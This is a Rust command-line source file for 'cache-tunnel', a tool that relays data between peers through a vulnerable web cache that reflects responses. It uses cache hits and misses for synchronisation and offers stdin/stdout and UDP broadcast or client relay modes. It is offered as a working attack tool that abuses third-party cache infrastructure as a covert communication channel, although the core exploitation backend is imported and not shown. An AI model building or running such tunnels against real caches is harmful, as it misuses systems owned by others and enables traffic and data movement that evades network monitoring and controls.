//! `cache-tunnel`: tunnel bytes through a vulnerable reflected-response web
//! cache, using HIT/MISS behavior as a synchronization primitive.

use anyhow::{Context, Result};
use cache_tunnel::backend::{HttpCacheBackend, HttpCacheConfig, ReflectedUrlExtractor};
use cache_tunnel::{CacheBackend, CacheOutcome, DuplexStream, SetOutcome, TunnelError};
use clap::Parser;
use rand::Rng;
use std::collections::HashSet;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::net::UdpSocket;
use tokio::sync::Mutex;
use tracing::{error, info};
use url::Url;

const DEFAULT_MAX_STEP: u64 = cache_tunnel::session::DEFAULT_MAX_STEP;
const DEFAULT_CHUNK_SIZE: usize = 1024;
const DEFAULT_BUFFER_SIZE: usize = 8192;
const UDP_DATAGRAM_LIMIT: usize = 65_507;

#[derive(Parser, Debug)]
#[command(name = "cache-tunnel", author, version, about = "Tunnel bytes through a vulnerable reflected-response cache", long_about = None)]
struct Cli {
    /// Target URL whose query string is rewritten per request.
    #[arg(short = 'u', long)]
    url: String,

    /// Channel id shared by both peers.
    #[arg(short = 'c', long)]
    channel: u64,

    /// Query parameter name the token is written under (part of the cache key).
    #[arg(short = 'k', long)]
    key: String,

    /// Query parameter name the payload is reflected through.
    #[arg(short = 's', long, default_value = "p")]
    slot: String,

    /// Poll interval, in seconds.
    #[arg(long, default_value_t = 1)]
    interval: u64,

    /// Bind a UDP socket and broadcast to every peer address seen.
    #[arg(short = 'l', long)]
    listen: bool,

    /// UDP port, for listen or client mode. Omit for stdin/stdout mode.
    #[arg(short = 'p', long)]
    port: Option<u16>,

    /// Interface/host to bind or connect to in UDP modes.
    #[arg(short = 'i', long, default_value = "0.0.0.0")]
    interface: String,

    /// HTTP proxy for all cache requests.
    #[arg(long)]
    proxy: Option<String>,

    /// Run a self-test round trip before entering the main loop.
    #[arg(long)]
    check: bool,

    #[arg(short = 'v', long)]
    verbose: bool,

    #[arg(short = 'd', long)]
    debug: bool,
}

fn init_tracing(verbose: bool, debug: bool) {
    let level = if debug {
        "debug"
    } else if verbose {
        "info"
    } else {
        "warn"
    };
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::new(level))
        .with_writer(std::io::stderr)
        .with_ansi(true)
        .init();
}

#[tokio::main]
async fn main() {
    let cli = Cli::parse();
    init_tracing(cli.verbose, cli.debug);

    match run(cli).await {
        Ok(()) => {}
        Err(e) => {
            eprintln!("Error: {e}");
            std::process::exit(1);
        }
    }
}

async fn run(cli: Cli) -> Result<()> {
    let base_url = Url::parse(&cli.url).with_context(|| format!("invalid --url {}", cli.url))?;
    if base_url.scheme() != "http" && base_url.scheme() != "https" {
        return Err(TunnelError::ProtocolMisuse(format!(
            "--url must be http or https, got {}",
            base_url.scheme()
        ))
        .into());
    }

    let config = HttpCacheConfig::new(base_url, cli.key.clone())
        .with_data_param(cli.slot.clone())
        .with_proxy(cli.proxy.clone());
    let backend: Arc<dyn CacheBackend> =
        Arc::new(HttpCacheBackend::new(config, Arc::new(ReflectedUrlExtractor::new()))?);

    if cli.check {
        run_self_check(&backend).await?;
        info!("self-test passed: target reflects writes correctly");
    }

    let stream = DuplexStream::new(
        backend,
        cli.channel,
        DEFAULT_MAX_STEP,
        DEFAULT_CHUNK_SIZE,
        Duration::from_secs(cli.interval),
        DEFAULT_BUFFER_SIZE,
    );

    match (cli.listen, cli.port) {
        (true, Some(port)) => run_udp_listen(stream, &cli.interface, port).await,
        (false, Some(port)) => run_udp_client(stream, &cli.interface, port).await,
        (true, None) => Err(TunnelError::ProtocolMisuse("--listen requires --port".to_string()).into()),
        (false, None) => run_stdio(stream).await,
    }
}

/// Writes 8 random bytes at a random (non-sequence) probe key and asserts
/// they read back unchanged, catching misconfigured `--key`/`--slot` before
/// the main loop burns a poll interval finding out.
async fn run_self_check(backend: &Arc<dyn CacheBackend>) -> Result<()> {
    let mut rng = rand::thread_rng();
    let probe_token: String = (0..16).map(|_| rng.gen_range(b'a'..=b'z') as char).collect();
    let payload: Vec<u8> = (0..8).map(|_| rng.gen()).collect();

    match backend.set(&probe_token, &payload).await? {
        SetOutcome::Ok => {}
        SetOutcome::AlreadyCached(_) => {
            return Err(TunnelError::ProtocolMisuse(
                "self-test probe key collided, try again".to_string(),
            )
            .into());
        }
    }

    match backend.get(&probe_token).await? {
        CacheOutcome::Hit(read_back) if read_back == payload => Ok(()),
        CacheOutcome::Hit(read_back) => Err(TunnelError::ProtocolMisuse(format!(
            "self-test probe wrote {payload:?} but read back {read_back:?}"
        ))
        .into()),
        CacheOutcome::Miss => Err(TunnelError::ProtocolMisuse(format!(
            "self-test probe wrote {payload:?} but target reported a miss"
        ))
        .into()),
    }
}

/// stdin -> tunnel, tunnel -> stdout. Matches a generic line-oriented relay:
/// each line read (terminator included) is written as one tunnel chunk.
async fn run_stdio(mut stream: DuplexStream) -> Result<()> {
    stream.spawn_polling(|bytes| {
        let mut stdout = std::io::stdout();
        use std::io::Write;
        let _ = stdout.write_all(&bytes);
        let _ = stdout.flush();
    });

    let mut lines = BufReader::new(tokio::io::stdin());
    let mut buf = Vec::new();
    loop {
        buf.clear();
        tokio::select! {
            result = lines.read_until(b'\n', &mut buf) => {
                let n = result.context("reading stdin")?;
                if n == 0 {
                    break; // EOF: normal exit
                }
                stream.write(&buf).await?;
            }
            _ = tokio::signal::ctrl_c() => {
                break;
            }
        }
    }

    stream.shutdown().await;
    Ok(())
}

/// Binds a UDP socket and broadcasts tunnel data to every distinct peer
/// address seen so far, mirroring a simple broadcast relay server.
async fn run_udp_listen(mut stream: DuplexStream, interface: &str, port: u16) -> Result<()> {
    let socket = Arc::new(UdpSocket::bind((interface, port)).await?);
    let peers: Arc<Mutex<HashSet<SocketAddr>>> = Arc::new(Mutex::new(HashSet::new()));

    let send_socket = socket.clone();
    let send_peers = peers.clone();
    stream.spawn_polling(move |bytes| {
        let socket = send_socket.clone();
        let peers = send_peers.clone();
        tokio::spawn(async move {
            let addrs: Vec<SocketAddr> = peers.lock().await.iter().copied().collect();
            for addr in addrs {
                if let Err(e) = socket.send_to(&bytes, addr).await {
                    error!(%addr, error = %e, "failed to broadcast to peer");
                }
            }
        });
    });

    let mut buf = vec![0_u8; UDP_DATAGRAM_LIMIT];
    loop {
        tokio::select! {
            result = socket.recv_from(&mut buf) => {
                let (n, addr) = result.context("udp recv_from")?;
                peers.lock().await.insert(addr);
                stream.write(&buf[..n]).await?;
            }
            _ = tokio::signal::ctrl_c() => break,
        }
    }
    stream.shutdown().await;
    Ok(())
}

/// Binds an ephemeral local UDP socket and exchanges datagrams with a
/// single fixed remote address, acting as a client relay.
async fn run_udp_client(mut stream: DuplexStream, interface: &str, port: u16) -> Result<()> {
    let socket = Arc::new(UdpSocket::bind(("0.0.0.0", 0)).await?);
    socket.connect((interface, port)).await?;

    let send_socket = socket.clone();
    stream.spawn_polling(move |bytes| {
        let socket = send_socket.clone();
        tokio::spawn(async move {
            if let Err(e) = socket.send(&bytes).await {
                error!(error = %e, "failed to send udp datagram");
            }
        });
    });

    let mut buf = vec![0_u8; UDP_DATAGRAM_LIMIT];
    loop {
        tokio::select! {
            result = socket.recv(&mut buf) => {
                let n = result.context("udp recv")?;
                stream.write(&buf[..n]).await?;
            }
            _ = tokio::signal::ctrl_c() => break,
        }
    }
    stream.shutdown().await;
    Ok(())
}
